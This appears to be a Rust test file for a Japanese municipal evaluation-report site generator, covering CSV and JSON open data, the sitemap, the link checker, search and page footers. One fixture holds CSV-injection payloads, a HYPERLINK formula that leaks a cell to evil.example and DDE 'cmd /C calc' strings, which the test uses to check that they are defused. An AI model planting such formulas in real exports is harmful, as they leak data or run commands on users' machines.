//! Publishing for a city website: open-data CSV bytes (BOM, CRLF, RFC 4180 quoting of
//! Japanese text), reports.json, sitemap.xml and canonical links, `hyoka check --links`,
//! the search index (segmentation shared with the browser, ranking, recall on the example
//! sites), 更新日 from one `git log`, page ids and the 404 page.

use crate::common::*;
use std::ffi::OsStr;
use std::path::Path;

/// A tiny RFC 4180 reader for checking what we write (quoted fields, doubled quotes,
/// CRLF inside quotes).
fn parse_csv(s: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    field.push('"');
                    chars.next();
                } else {
                    quoted = false;
                }
            } else {
                field.push(c);
            }
        } else {
            match c {
                '"' => quoted = true,
                ',' => row.push(std::mem::take(&mut field)),
                '\r' => {
                    assert_eq!(chars.next(), Some('\n'), "CR without LF");
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                '\n' => panic!("bare LF outside quotes: rows must end with CRLF"),
                _ => field.push(c),
            }
        }
    }
    assert!(field.is_empty() && row.is_empty(), "last row has no CRLF");
    rows
}

fn read_csv(out: &Path, name: &str) -> (Vec<u8>, Vec<Vec<String>>) {
    let bytes = std::fs::read(out.join("data").join(name)).unwrap();
    assert!(
        bytes.starts_with(&[0xEF, 0xBB, 0xBF]),
        "{name}: no UTF-8 BOM"
    );
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    (bytes.clone(), parse_csv(text))
}

/// The minimal site with `base_url = "https://www.city.example.lg.jp/kikaku/hyoka"`.
fn minimal_with_base_url() -> Fixture {
    let site = format!(
        "{}base_url = \"https://www.city.example.lg.jp/kikaku/hyoka\"\n",
        MINIMAL[0].1
    );
    Fixture::minimal_with(&[("site.toml", site.as_str())])
}

#[test]
fn open_data_links_to_goals_under_base_url() {
    let fx = minimal_with_base_url();
    let out = fx.built();
    let base = "https://www.city.example.lg.jp/kikaku/hyoka/";
    // Every goal's address in goals.csv and reports.json: a page of the sitemap, then
    // `#` and an id that page has (a `%23` would make the whole thing a missing page).
    let xml = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
    let (_, rows) = read_csv(&out, "goals.csv");
    let col = rows[0].iter().position(|h| h == "ページ").unwrap();
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("data/reports.json")).unwrap()).unwrap();
    let mut urls: Vec<String> = rows[1..].iter().map(|r| r[col].clone()).collect();
    for r in json["reports"].as_array().unwrap() {
        for g in r["goals"].as_array().unwrap() {
            urls.push(g["url"].as_str().unwrap().to_string());
        }
    }
    assert!(urls.len() >= 4, "{urls:?}");
    assert!(
        urls.contains(&format!("{base}departments/kikaku/2021/#goal-renkei")),
        "{urls:?}"
    );
    for u in &urls {
        let (page_url, id) = u
            .split_once('#')
            .unwrap_or_else(|| panic!("no #anchor: {u}"));
        assert!(
            xml.contains(&format!("<loc>{page_url}</loc>")),
            "{u}: page not in the sitemap"
        );
        let file = format!("{}index.html", page_url.strip_prefix(base).unwrap());
        let doc = page(&out, &file);
        assert_eq!(
            doc.select(&sel(&format!("[id=\"{id}\"]"))).count(),
            1,
            "{u}: no element with id {id} in {file}"
        );
    }
}

#[test]
fn reports_json_has_one_report_per_line() {
    // A report edited changes its own line only (cities keep the site in git).
    let fx = Fixture::minimal();
    let out = fx.built();
    let text = std::fs::read_to_string(out.join("data/reports.json")).unwrap();
    let all: serde_json::Value = serde_json::from_str(&text).unwrap();
    let n = all["reports"].as_array().unwrap().len();
    assert!(n >= 2, "{n} reports");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), n + 2, "{text}");
    for (line, report) in lines[1..=n].iter().zip(all["reports"].as_array().unwrap()) {
        let one: serde_json::Value =
            serde_json::from_str(line.strip_suffix(',').unwrap_or(line)).unwrap();
        assert_eq!(&one, report);
    }
}

const TRICKY_GOAL: &str = r#"
[[goals]]
id = "tricky"
title = "発電機、投光器の配備"
field = "防災"
sections = ["危機管理課", "防災課"]
aim = """
避難所に「発電機,投光器」を配備します。

二行目は "引用" を含みます。
"""
"#;

/// The minimal site with `goal` appended to `kikaku/2021.toml`.
fn with_goal(goal: &str) -> Fixture {
    let file = "content/departments/kikaku/2021.toml";
    let kikaku = format!(
        "{}{goal}",
        MINIMAL.iter().find(|(p, _)| *p == file).unwrap().1
    );
    Fixture::minimal_with(&[(file, kikaku.as_str())])
}

#[test]
fn goals_csv_opens_in_excel_with_quoted_japanese_text() {
    let fx = with_goal(TRICKY_GOAL);
    let out = fx.built();
    let (bytes, rows) = read_csv(&out, "goals.csv");
    // Every line break outside and inside fields is CRLF.
    let body = &bytes[3..];
    for (i, &b) in body.iter().enumerate() {
        if b == b'\n' {
            assert_eq!(body[i - 1], b'\r', "LF without CR at byte {i}");
        }
    }
    let head = &rows[0];
    assert_eq!(
        &head[..6],
        [
            "全国地方公共団体コード",
            "地方公共団体名",
            "年度",
            "年度_和暦",
            "部局ID",
            "部局名"
        ]
    );
    let col = |name: &str| {
        head.iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    assert!(rows.iter().all(|r| r.len() == head.len()), "ragged rows");
    let tricky = rows
        .iter()
        .find(|r| r[col("目標ID")] == "tricky")
        .expect("tricky goal row");
    assert_eq!(tricky[col("年度")], "2021");
    assert_eq!(tricky[col("年度_和暦")], "令和3年度");
    assert_eq!(tricky[col("部局ID")], "kikaku");
    assert_eq!(tricky[col("目標名")], "発電機、投光器の配備");
    assert_eq!(
        tricky[col("達成目標")],
        "避難所に「発電機,投光器」を配備します。\r\n二行目は \"引用\" を含みます。"
    );
    assert_eq!(tricky[col("評価の意味")], "未評価");
    assert_eq!(tricky[col("評価")], "");
    // The raw bytes show RFC 4180 quoting: quotes doubled, the field quoted.
    let raw = String::from_utf8_lossy(&bytes);
    assert!(
        raw.contains(
            "\"避難所に「発電機,投光器」を配備します。\r\n二行目は \"\"引用\"\" を含みます。\""
        ),
        "{raw}"
    );
    let renkei = rows
        .iter()
        .find(|r| r[col("目標ID")] == "renkei" && r[col("年度")] == "2021")
        .unwrap();
    assert_eq!(renkei[col("評価")], "B");
    assert_eq!(renkei[col("評価ID")], "b");
    assert_eq!(renkei[col("達成に数える")], "1");
    assert_eq!(renkei[col("評価の出し方")], "記入");
    assert_eq!(
        renkei[col("ページ")],
        "departments/kikaku/2021/index.html#goal-renkei"
    );
    // goal_plans.csv: one row per reference, normalised id beside the code as written.
    let (_, links) = read_csv(&out, "goal_plans.csv");
    let lc = |name: &str| links[0].iter().position(|h| h == name).unwrap();
    let r = links
        .iter()
        .find(|r| r[lc("目標ID")] == "renkei" && r[lc("年度")] == "2021")
        .unwrap();
    assert_eq!(r[lc("計画ID")], "sogo");
    assert_eq!(r[lc("項目コード")], "4-1-2");
    assert_eq!(r[lc("項目ID")], "4-1-2");
    assert_eq!(r[lc("項目名")], "多様な市民活動の支援");
}

/// A goal whose text begins like a spreadsheet formula (CSV injection, OWASP).
const FORMULA_GOAL: &str = r#"
[[goals]]
id = "formula"
title = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細はこちら")'
field = "@SUM(1+1)*cmd|' /C calc'!A0"
sections = ["企画課"]
aim = "+cmd|' /C calc'!A0"
status = "-2+3+cmd|' /C calc'!A0"

  [[goals.indicators]]
  id = "minus"
  name = "-から始まる指標名"
  unit = "=1+1"
  baseline = -3.5
  target = -1
  actual = -2.25
  better = "higher"
"#;

/// No cell of the open-data CSV files can run as a formula in Excel: a text cell that
/// begins with = + - @ (or a tab or CR) starts with a single quote, while numbers —
/// negative ones too — stay plain numbers.
#[test]
fn csv_cells_that_look_like_formulas_are_defused() {
    let fx = with_goal(FORMULA_GOAL);
    let out = fx.built();
    let title = r#"=HYPERLINK("https://evil.example/?leak="&A1,"詳細はこちら")"#;

    let (bytes, goals) = read_csv(&out, "goals.csv");
    let col = |rows: &[Vec<String>], name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let g = goals
        .iter()
        .find(|r| r[col(&goals, "目標ID")] == "formula")
        .expect("formula goal row");
    assert_eq!(g[col(&goals, "目標名")], format!("'{title}"));
    assert_eq!(g[col(&goals, "分野")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(g[col(&goals, "達成目標")], "'+cmd|' /C calc'!A0");
    assert_eq!(g[col(&goals, "達成状況")], "'-2+3+cmd|' /C calc'!A0");
    // In the file: the quoted field starts with the single quote, quotes doubled.
    let raw = String::from_utf8_lossy(&bytes);
    assert!(
        raw.contains(r#","'=HYPERLINK(""https://evil.example/?leak=""&A1,""詳細はこちら"")","#),
        "{raw}"
    );

    let (_, inds) = read_csv(&out, "indicators.csv");
    let i = inds
        .iter()
        .find(|r| r[col(&inds, "指標ID")] == "minus")
        .expect("indicator row");
    assert_eq!(i[col(&inds, "目標名")], format!("'{title}"));
    assert_eq!(i[col(&inds, "指標名")], "'-から始まる指標名");
    assert_eq!(i[col(&inds, "単位")], "'=1+1");
    // Negative numbers stay numbers.
    assert_eq!(i[col(&inds, "基準値")], "-3.5");
    assert_eq!(i[col(&inds, "目標値")], "-1");
    assert_eq!(i[col(&inds, "実績")], "-2.25");

    // Whatever the column: a cell that begins like a formula is a plain number.
    for name in ["goals.csv", "indicators.csv", "goal_plans.csv"] {
        let (_, rows) = read_csv(&out, name);
        for cell in rows.iter().flatten() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.len() > 1 {
                assert!(cell.parse::<f64>().is_ok(), "{name}: {cell:?}");
            }
        }
    }

    // The pages and reports.json (not opened by spreadsheets) keep the text as written.
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("data/reports.json")).unwrap()).unwrap();
    let goal = json["reports"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| r["goals"].as_array().unwrap())
        .find(|g| g["id"] == "formula")
        .unwrap();
    assert_eq!(goal["title"], title);
    let doc = page(&out, "departments/kikaku/2021/index.html");
    assert!(main_text(&doc).contains(title));
}

#[test]
fn indicators_csv_has_plain_numbers_and_reports_json_has_unevaluated_as_null() {
    let fx = Fixture::minimal();
    let out = fx.built();
    let (_, rows) = read_csv(&out, "indicators.csv");
    let head = &rows[0];
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    let r = &rows[1];
    assert_eq!(r[col("指標名")], "公式ホームページ総ページビュー数");
    assert_eq!(r[col("目標値")], "4500000");
    assert_eq!(r[col("実績")], "4238714");
    assert_eq!(r[col("基準値")], "4100000");
    assert_eq!(r[col("単位")], "件");
    assert_eq!(r[col("達成率")], "94.2");
    assert_eq!(r[col("良い方向")], "higher");
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("data/reports.json")).unwrap()).unwrap();
    let reports = json["reports"].as_array().unwrap();
    let shimin = reports
        .iter()
        .find(|r| r["department_id"] == "shimin")
        .unwrap();
    assert!(
        shimin["achievement_rate"].is_null(),
        "unevaluated must be null, not 0"
    );
    assert_eq!(shimin["fiscal_year"], 2021);
    assert_eq!(shimin["fiscal_year_wareki"], "令和3年度");
    let kikaku = reports
        .iter()
        .find(|r| r["department_id"] == "kikaku" && r["fiscal_year"] == 2021)
        .unwrap();
    assert_eq!(kikaku["achievement_rate"], 100.0);
    assert_eq!(kikaku["updated"], "2022-06-30");
    // The data page describes every file and is linked from every page's footer.
    let data = page(&out, "data/index.html");
    let t = main_text(&data);
    for name in [
        "goals.csv",
        "indicators.csv",
        "goal_plans.csv",
        "reports.json",
        "年度_和暦",
        "評価ID",
    ] {
        assert!(t.contains(name), "data/index.html does not describe {name}");
    }
    let top = page(&out, "index.html");
    let footer_links: Vec<String> = top
        .select(&sel("footer a"))
        .filter_map(|a| a.value().attr("href").map(String::from))
        .collect();
    assert!(
        footer_links.iter().any(|h| h == "data/index.html"),
        "{footer_links:?}"
    );
    // Data tables link to their report's own CSV (tests/it/opendata.rs checks the rows).
    let report = page(&out, "departments/kikaku/2021/index.html");
    let hrefs: Vec<String> = report
        .select(&sel("main a[download]"))
        .filter_map(|a| a.value().attr("href").map(String::from))
        .collect();
    assert!(
        hrefs
            .iter()
            .any(|h| h.ends_with("data/reports/kikaku/2021/goals.csv")),
        "{hrefs:?}"
    );
    assert!(
        hrefs
            .iter()
            .any(|h| h.ends_with("data/reports/kikaku/2021/indicators.csv")),
        "{hrefs:?}"
    );
}

#[test]
fn sitemap_and_canonical_only_with_base_url() {
    let fx = Fixture::minimal();
    let out = fx.built();
    assert!(
        !out.join("sitemap.xml").exists(),
        "sitemap without base_url"
    );
    assert_eq!(
        page(&out, "index.html")
            .select(&sel("link[rel=canonical]"))
            .count(),
        0
    );

    let fx = minimal_with_base_url();
    let out = fx.built();
    let xml = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
    assert!(xml.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
    let locs: Vec<&str> = xml
        .split("<loc>")
        .skip(1)
        .map(|s| s.split("</loc>").next().unwrap())
        .collect();
    let pages: Vec<String> = html_files(&out)
        .into_iter()
        .filter(|p| p != "404.html")
        .collect();
    assert_eq!(locs.len(), pages.len(), "{locs:?}");
    assert!(locs.contains(&"https://www.city.example.lg.jp/kikaku/hyoka/"));
    assert!(locs.contains(&"https://www.city.example.lg.jp/kikaku/hyoka/departments/kikaku/2021/"));
    assert!(!xml.contains("404"));
    // Each page's canonical link is its sitemap URL.
    for p in &pages {
        let doc = page(&out, p);
        let c: Vec<String> = doc
            .select(&sel("link[rel=canonical]"))
            .filter_map(|l| l.value().attr("href").map(String::from))
            .collect();
        assert_eq!(c.len(), 1, "{p}: {c:?}");
        assert!(
            locs.contains(&c[0].as_str()),
            "{p}: canonical {} not in sitemap",
            c[0]
        );
    }
    // 404.html: no relative links (it is served at any depth), a link to base_url instead.
    let nf = page(&out, "404.html");
    let links: Vec<String> = nf
        .select(&sel("[href], [src]"))
        .filter_map(|e| {
            e.value()
                .attr("href")
                .or(e.value().attr("src"))
                .map(String::from)
        })
        .collect();
    assert!(!links.is_empty());
    for l in links {
        assert!(
            l.starts_with("https://www.city.example.lg.jp/kikaku/hyoka/"),
            "404.html link {l}"
        );
    }
}

fn check_links_run(fx: &Fixture) -> Run {
    hyoka([
        OsStr::new("--site"),
        fx.site.as_os_str(),
        OsStr::new("check"),
        OsStr::new("--links"),
    ])
}

#[test]
fn links_staff_write_in_prose_also_work_in_the_booklet() {
    // Prose is written for the report page: a link to another page of the site and one
    // to a goal of the same report. The year's booklet holds the same prose elsewhere.
    let fx = Fixture::minimal();
    let kikaku = MINIMAL
        .iter()
        .find(|(p, _)| *p == "content/departments/kikaku/2021.toml")
        .unwrap()
        .1
        .replace(
            "review = \"一年を振り返りました。\"",
            "review = \"[部局一覧](../../index.html)と[連携の目標](#goal-renkei)を見てください。\"",
        );
    fx.write(&[("content/departments/kikaku/2021.toml", kikaku.as_str())]);
    let run = check_links_run(&fx);
    run.ok();
    let out = fx.built();
    let booklet = std::fs::read_to_string(out.join("years/2021/booklet/index.html")).unwrap();
    assert!(
        booklet.contains("href=\"../../../departments/kikaku/2021/index.html#goal-renkei\""),
        "the booklet's copy leads to the goal on the report page"
    );
}

#[test]
fn check_links_reports_broken_links_in_japanese() {
    let fx = Fixture::minimal();
    let ok = check_links_run(&fx);
    ok.ok();
    assert!(
        ok.stdout.contains("リンク切れはありません"),
        "{}",
        ok.stdout
    );
    // A Markdown link to a missing page and one to a missing anchor.
    let kikaku = MINIMAL
        .iter()
        .find(|(p, _)| *p == "content/departments/kikaku/2021.toml")
        .unwrap()
        .1;
    let broken = kikaku.replace(
        "review = \"一年を振り返りました。\"",
        "review = \"[前年度](../2019/index.html)と[目標](#goal-nothing)を見てください。\"",
    );
    fx.write(&[("content/departments/kikaku/2021.toml", broken.as_str())]);
    let run = check_links_run(&fx);
    run.expect_code(1);
    assert!(
        run.stderr
            .contains("リンク切れ: departments/kikaku/2021/index.html"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("departments/kikaku/2019/index.html がありません"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("id「goal-nothing」"), "{}", run.stderr);
    // The year's booklet holds the same prose, its links led to the report page: the
    // same two links are broken there too.
    assert!(
        run.stderr.contains(
            "リンク切れ: years/2021/booklet/index.html のリンク「../../../departments/kikaku/2021/../2019/index.html」: departments/kikaku/2019/index.html がありません"
        ),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("4 件のリンク切れ"), "{}", run.stderr);
    // Plain `check` still passes: link checking is opt-in.
    fx.check().ok();
}

#[test]
fn every_example_passes_check_links() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut dirs = vec![root.to_path_buf()];
    for e in std::fs::read_dir(root.join("examples")).unwrap() {
        let p = e.unwrap().path();
        if p.join("site.toml").is_file() {
            dirs.push(p);
        }
    }
    for d in dirs {
        let run = hyoka([
            OsStr::new("--site"),
            d.as_os_str(),
            OsStr::new("check"),
            OsStr::new("--links"),
        ]);
        assert_eq!(run.code, 0, "{}: {}", d.display(), run.stderr);
    }
}

#[test]
fn segmentation_matches_the_shared_vectors() {
    let v: serde_json::Value =
        serde_json::from_str(include_str!("../search_vectors.json")).unwrap();
    for case in v["tokens"].as_array().unwrap() {
        let input = case[0].as_str().unwrap();
        let want: Vec<&str> = case[1]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t.as_str().unwrap())
            .collect();
        assert_eq!(
            hyoka::publish::search::segment::tokens(input),
            want,
            "tokens of {input:?}"
        );
    }
}

fn site_index(dir: &Path) -> hyoka::publish::search::ranking::SearchIndex {
    let c = hyoka::pipeline::compile(dir);
    let site = c.site.expect("site compiles");
    let ix = hyoka::analyze::index::Indexes::build(&site);
    hyoka::publish::search::ranking::build_index(&hyoka::publish::search::documents::documents(
        &site, &ix,
    ))
}

#[test]
fn hinanjo_on_kashiwara_lists_goal_6_first() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let ix = site_index(&root.join("examples/kashiwara"));
    let hits = ix.search("避難所");
    let first = &ix.docs[hits[0].doc];
    assert_eq!(first.1, "重点目標 6 指定避難所の機能強化");
    assert_eq!(
        first.0,
        "departments/seisaku-suishin/2021/index.html#goal-hinanjo"
    );
    // Full width and case fold the same way on both sides.
    assert_eq!(ix.search("ＤＸ").len(), ix.search("dx").len());
}

#[test]
fn a_goal_of_several_years_is_one_result_linking_to_the_newest() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let ix = site_index(root);
    let results = ix.results("交通安全対策の推進");
    let urls: Vec<&str> = results[0].iter().map(|&d| ix.docs[d].0.as_str()).collect();
    let want: Vec<String> = [2024, 2023, 2022, 2021]
        .iter()
        .map(|y| format!("departments/kiki/{y}/index.html#goal-koutsu"))
        .collect();
    assert_eq!(urls, want);
    // No other result is the same goal.
    assert!(
        results[1..]
            .iter()
            .flatten()
            .all(|&d| !ix.docs[d].0.ends_with("#goal-koutsu"))
    );
}

#[test]
fn search_recall_on_the_example_sites_is_complete() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let q: serde_json::Value =
        serde_json::from_str(include_str!("../search_queries.json")).unwrap();
    let mut indexes = std::collections::BTreeMap::new();
    let mut missed = Vec::new();
    let mut not_first = Vec::new();
    let queries = q["queries"].as_array().unwrap();
    for case in queries {
        let site = case["site"].as_str().unwrap();
        let ix = indexes
            .entry(site.to_string())
            .or_insert_with(|| site_index(&root.join(site)));
        let query = case["query"].as_str().unwrap();
        let expect = case["expect"].as_str().unwrap();
        let urls: Vec<&str> = ix
            .search(query)
            .iter()
            .take(10)
            .map(|h| ix.docs[h.doc].0.as_str())
            .collect();
        if !urls.contains(&expect) {
            missed.push(format!("{site}: {query} → {expect} not in {urls:?}"));
        }
        if case["first"].as_bool() == Some(true) && urls.first() != Some(&expect) {
            not_first.push(format!("{site}: {query} → {expect} not first: {urls:?}"));
        }
    }
    assert!(queries.len() >= 30);
    assert!(
        missed.is_empty(),
        "recall@10 below 100%:\n{}",
        missed.join("\n")
    );
    assert!(not_first.is_empty(), "ranking:\n{}", not_first.join("\n"));
}

#[test]
fn search_page_works_without_script_and_index_is_written() {
    let fx = Fixture::minimal();
    let out = fx.built();
    let js = std::fs::read_to_string(out.join("search/index.js")).unwrap();
    assert!(js.contains("window.hyokaSearchIndex = {"));
    // Each token's postings are one string, decoding to what the index holds.
    let json = js
        .split_once(" = ")
        .unwrap()
        .1
        .trim_end()
        .trim_end_matches(';');
    let v: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(v["v"], hyoka::publish::search::FORMAT_VERSION);
    assert_eq!(hyoka::publish::search::FORMAT_VERSION, 3);
    let built = site_index(&fx.site);
    let terms = v["terms"].as_object().unwrap();
    assert_eq!(terms.len(), built.terms.len());
    assert!(!terms.is_empty());
    for (token, list) in &built.terms {
        let s = terms[token].as_str().expect("postings are a string");
        assert_eq!(
            hyoka::publish::search::postings::decode_postings(s).as_ref(),
            Some(list),
            "{token}"
        );
    }
    assert_eq!(v["docs"].as_array().unwrap().len(), built.docs.len());
    // Each row is the built one; a row of a later year's goal ends with the number of its
    // group's first document.
    for (n, (row, want)) in v["docs"]
        .as_array()
        .unwrap()
        .iter()
        .zip(&built.docs)
        .enumerate()
    {
        let row = row.as_array().unwrap();
        assert_eq!(row[0], want.0.as_str());
        assert_eq!(row[4], want.4.as_str());
        let group = row.get(6).map_or(n as u64, |g| g.as_u64().unwrap());
        assert_eq!(group, u64::from(want.6), "{row:?}");
    }
    let doc = page(&out, "search/index.html");
    let t = main_text(&doc);
    assert!(t.contains("検索には JavaScript が必要です"), "{t}");
    let links = resolved_links(doc.root_element(), "search/index.html");
    assert!(
        links.iter().any(|l| l == "departments/index.html"),
        "{links:?}"
    );
    assert!(links.iter().any(|l| l == "plans/index.html"), "{links:?}");
    // Every other page has a search form that works without script (GET to the page).
    let top = page(&out, "index.html");
    let form = top
        .select(&sel("form[role=search]"))
        .next()
        .expect("header search form");
    assert_eq!(form.value().attr("action"), Some("search/index.html"));
    assert_eq!(form.value().attr("method"), Some("get"));
    assert_eq!(
        top.select(&sel("script")).count(),
        0,
        "the top page needs no script"
    );
}

#[test]
fn pages_show_updated_from_one_git_log_page_id_and_contact() {
    let fx = Fixture::minimal();
    let git = |args: &[&str]| {
        let s = std::process::Command::new("git")
            .current_dir(&fx.site)
            .args(args)
            .env("GIT_AUTHOR_DATE", "2023-04-05T10:00:00+09:00")
            .env("GIT_COMMITTER_DATE", "2023-04-05T10:00:00+09:00")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.jp")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.jp")
            .output();
        s.map(|o| o.status.success()).unwrap_or(false)
    };
    if !git(&["init", "-q"]) {
        eprintln!("git is not available: skipped");
        return;
    }
    assert!(git(&["add", "site.toml", "content"]));
    assert!(git(&["commit", "-q", "-m", "content"]));
    let out = fx.built();
    let footer = |rel: &str| {
        squash(&text(
            page(&out, rel).select(&sel("footer")).next().unwrap(),
        ))
    };
    // A report with `updated` shows it; one without shows its file's commit date.
    assert!(footer("departments/kikaku/2021/index.html").contains("更新日令和4年6月30日"));
    let shimin = footer("departments/shimin/2021/index.html");
    assert!(shimin.contains("更新日令和5年4月5日"), "{shimin}");
    assert!(shimin.contains("問い合わせ先市民部（市民課）"), "{shimin}");
    assert!(footer("plans/sogo/index.html").contains("更新日令和5年4月5日"));
    // Page ids: on every page, all different.
    let mut ids = std::collections::BTreeSet::new();
    for p in html_files(&out).into_iter().filter(|p| p != "404.html") {
        let f = footer(&p);
        let id = f
            .split("ページID")
            .nth(1)
            .unwrap_or_else(|| panic!("{p}: no page id: {f}"));
        assert!(
            ids.insert(id.chars().take(8).collect::<String>()),
            "{p}: duplicate page id"
        );
    }
    // Same commit, same bytes.
    let again = fx.beside("again");
    fx.build_to(&again).ok();
    assert_same_tree(&snapshot(&out), &snapshot(&again), "rebuild in git");
}
